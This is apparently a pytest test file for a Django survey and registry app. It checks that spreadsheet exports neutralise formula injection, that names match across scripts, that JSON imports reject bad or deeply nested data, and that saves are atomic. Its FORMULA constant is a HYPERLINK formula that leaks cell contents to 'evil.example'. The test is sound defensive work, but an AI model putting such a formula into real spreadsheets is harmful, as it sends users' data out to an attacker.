"""Hardening of inputs and outputs: spreadsheets, name matching, JSON import, concurrent saves, OpenAPI."""

from __future__ import annotations

import io
import json
from unittest import mock

import pytest
from django.core.exceptions import ValidationError
from django.core.management import CommandError, call_command
from django.test import Client
from django.utils import timezone, translation
from openpyxl import load_workbook
from privacy_helpers import SECRET_EVIDENCE

from netwerkregie.assessments import services as survey
from netwerkregie.assessments.models import Answer
from netwerkregie.registry import services as registry
from netwerkregie.registry.models import Organisation, OrganisationType
from netwerkregie.reports import exchange
from netwerkregie.reports.exchange import network_export, network_import
from netwerkregie.reports.layout import normalise
from netwerkregie.reports.spreadsheet import import_spreadsheet

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A2,"klik")'


# Spreadsheets --------------------------------------------------------------------------------


def test_registry_workbook_writes_formulas_as_text_and_drops_control_characters(surveyed, client_as):
    registry.organisation_update(organisation=surveyed.hospital, name=FORMULA, notes="+31 6\x07 1234 (bellen)")
    response = client_as("member").get(f"/n/{surveyed.network.slug}/reports/registry.xlsx")
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.content))
    cells = {cell.value: cell for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.value}
    assert cells[FORMULA].data_type == "s" and cells[FORMULA].quotePrefix
    assert cells["+31 6 1234 (bellen)"].data_type == "s" and cells["+31 6 1234 (bellen)"].quotePrefix
    # The workbook imports back unchanged: the name stays the name, nothing is renamed or added.
    summary = import_spreadsheet(network=surveyed.network, files=[("registry.xlsx", io.BytesIO(response.content))])
    assert Organisation.objects.filter(network=surveyed.network, name=FORMULA).count() == 1
    assert summary.total >= 6 and all(created == 0 for _title, created, *_rest in summary.rows())


def test_raw_answers_and_results_workbooks_survive_hostile_text(surveyed, client_as):
    survey.answers_save(invitation=surveyed.invitations[2], instrument="five_conditions",
                        values={"amb_shared": 4}, evidence={"amb_shared": "@SUM(1+1)\x1b\x00 zie -notulen"})
    survey.invitation_complete(invitation=surveyed.invitations[2])  # an open round shows from the minimum on
    client = client_as("admin")
    base = f"/n/{surveyed.network.slug}/assessments/rounds/{surveyed.round.pk}"
    for path in ("answers.xlsx", "results.xlsx?raw=1"):
        response = client.get(f"{base}/{path}")
        assert response.status_code == 200, path
        values = [cell for sheet in load_workbook(io.BytesIO(response.content))
                  for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
        hostile = [cell for cell in values if "notulen" in cell.value]
        assert hostile and all(cell.value == "@SUM(1+1) zie -notulen" and cell.data_type == "s" for cell in hostile)


# Names in every script --------------------------------------------------------------------------


def test_names_compare_in_every_script():
    assert normalise("Zorg  Café") == normalise("ZORG cafe")
    assert normalise("Больница") == normalise("БОЛЬНИЦА") != normalise("Поликлиника")
    assert normalise("مُسْتَشْفَى") == normalise("مستشفى") != ""
    assert normalise("東京病院") != normalise("大阪病院")
    assert normalise("---") != ""


@translation.override("en")
def test_a_spreadsheet_import_never_renames_an_organisation_of_another_script(network):
    hospital = OrganisationType.objects.get(key="hospital")
    registry.organisation_create(network=network, name="Больница", type=hospital)
    registry.organisation_create(network=network, name="مستشفى", type=hospital)
    content = "name,type\nПоликлиника,hospital\n東京病院,hospital\n".encode()
    import_spreadsheet(network=network, files=[("organisations.csv", io.BytesIO(content))])
    assert sorted(network.organisations.values_list("name", flat=True)) == sorted(
        ["Больница", "مستشفى", "Поликлиника", "東京病院"])


# JSON import ------------------------------------------------------------------------------------


def _export(surveyed) -> dict:
    data = network_export(network=surveyed.network)
    data["network"]["slug"] = "kopie"
    return data


@translation.override("en")
@pytest.mark.parametrize(("change", "path", "message"), [
    (lambda a: a.update(instrument="astrology"), "survey_rounds[0].invitations[0].answers[0].instrument",
     "no instrument “astrology”"),
    (lambda a: a.update(item="nope"), "survey_rounds[0].invitations[0].answers[0].item", "no question"),
    (lambda a: a.update(value=99), "survey_rounds[0].invitations[0].answers[0].value", "whole number"),
    (lambda a: a.update(organisation="Onbekend"), "survey_rounds[0].invitations[0].answers[0].organisation",
     "Unknown"),
])
def test_json_import_names_the_place_of_a_bad_answer(surveyed, change, path, message):
    data = _export(surveyed)
    answered = next(i for i in data["survey_rounds"][0]["invitations"] if i["answers"])
    data["survey_rounds"][0]["invitations"] = [answered]
    change(answered["answers"][0])
    with pytest.raises(ValidationError) as excinfo:
        network_import(data=data)
    text = " ".join(excinfo.value.messages)
    assert f"{path}:" in text and message in text
    assert not Answer.objects.filter(invitation__round__network__slug="kopie").exists()


@translation.override("en")
def test_json_import_names_unknown_round_instruments_and_bad_invitations(surveyed):
    data = _export(surveyed)
    data["survey_rounds"][0]["instruments"] = ["five_conditions", "tarot"]
    with pytest.raises(ValidationError, match=r"survey_rounds\[0\]\.instruments\[1\]: .*tarot"):
        network_import(data=data)
    data = _export(surveyed)
    data["survey_rounds"][0]["invitations"][1]["token_digest"] = "geen-hash"
    data["survey_rounds"][0]["invitations"][2]["started_at"] = "gisteren"
    with pytest.raises(ValidationError, match=r"survey_rounds\[0\]\.invitations\[1\]\.token_digest"):
        network_import(data=data)
    data["survey_rounds"][0]["invitations"][1]["language"] = "klingon"
    del data["survey_rounds"][0]["invitations"][1]["token_digest"]
    with pytest.raises(ValidationError, match=r"survey_rounds\[0\]\.invitations\[1\]"):
        network_import(data=data)
    data = _export(surveyed)
    data["people"][0] = "Anna"
    with pytest.raises(ValidationError, match=r"people\[0\]: missing or invalid"):
        network_import(data=data)


@translation.override("en")
def test_a_deep_or_huge_document_gives_a_clear_error(surveyed, tmp_path, monkeypatch):
    deep = tmp_path / "deep.json"
    deep.write_text("[" * 100_000 + "]" * 100_000)
    with pytest.raises(CommandError, match="nested"):
        call_command("import_network", str(deep))
    data = _export(surveyed)
    data["governance"] = {"notes": [[[[[[[[[[[[[[[[["diep"]]]]]]]]]]]]]]]]]}
    with pytest.raises(ValidationError, match="nested more than 16 levels"):
        network_import(data=data)
    big = tmp_path / "big.json"
    big.write_text(json.dumps(_export(surveyed)))
    monkeypatch.setattr(exchange, "MAX_DOCUMENT_BYTES", 1000)
    with pytest.raises(CommandError, match="larger than"):
        call_command("import_network", str(big))
    broken = tmp_path / "broken.json"
    broken.write_bytes(b"\xff\xfe{")
    with pytest.raises(CommandError, match="not valid JSON"):
        call_command("import_network", str(broken))


# Concurrent saves ------------------------------------------------------------------------------


def test_a_page_is_saved_whole_or_not_at_all(surveyed):
    """Every subject of a page is written in one transaction holding the respondent's row, so two
    saves of one page follow each other (PostgreSQL: SELECT … FOR UPDATE) and never mix."""
    today = timezone.localdate()
    round_ = survey.round_create(network=surveyed.network, name="Relaties", instruments=["relations"],
                                 opens_on=today, closes_on=today)
    (invitation,) = survey.invitations_create(survey_round=round_, people=[surveyed.people[1]])
    third = Organisation.objects.create(network=surveyed.network, name="Derde", type=surveyed.hospital.type)
    others = list(surveyed.network.organisations.exclude(pk=invitation.organisation_id).exclude(pk=third.pk))
    survey.partners_save(invitation=invitation, organisation_ids=[org.pk for org in [*others, third]])
    data = {f"v:o{org.pk}:relation_kind": "coordinated" for org in others}
    data[f"v:o{surveyed.people[1].organisation_id}:relation_kind"] = "coordinated"  # own: not on the page
    data[f"v:o{third.pk}:relation_kind"] = "aware"
    real_save = survey.answers_save
    calls = []

    def fail_second(**kwargs):
        calls.append(kwargs)
        if len(calls) == 2:
            raise RuntimeError("the connection dropped")
        return real_save(**kwargs)

    with mock.patch.object(survey, "answers_save", side_effect=fail_second), pytest.raises(RuntimeError):
        Client().post(f"/survey/{invitation.token}/2/", data)
    assert len(calls) == 2 and not Answer.objects.filter(invitation=invitation).exists()
    assert Client().post(f"/survey/{invitation.token}/2/", data).status_code == 302
    assert Answer.objects.filter(invitation=invitation).count() == 2


def test_saving_answers_locks_the_invitation_row(surveyed):
    """The lock is asked for on every save; on SQLite the transaction alone serialises writers."""
    with mock.patch.object(survey, "invitation_lock", wraps=survey.invitation_lock) as lock:
        survey.answers_save(invitation=surveyed.invitations[2], instrument="five_conditions", values={"amb_shared": 1})
    lock.assert_called_once_with(invitation=surveyed.invitations[2])


# OpenAPI ---------------------------------------------------------------------------------------


def test_openapi_declares_the_error_responses_of_every_operation():
    document = Client().get("/api/v1/openapi.json").json()
    operations = {(path, method): op for path, methods in document["paths"].items() for method, op in methods.items()}
    assert len(operations) > 50
    for (path, method), operation in operations.items():
        declared = set(operation["responses"])
        assert "401" in declared, (path, method)
        if "{slug}" in path:
            assert {"403", "404", "422"} <= declared, (path, method)
        if method in ("post", "patch"):
            assert "422" in declared, (path, method)
    detail = document["paths"]["/api/v1/networks/{slug}/"]["get"]["responses"]["404"]
    assert detail["content"]["application/json"]["schema"] == {"$ref": "#/components/schemas/Error"}
    assert SECRET_EVIDENCE not in json.dumps(document)
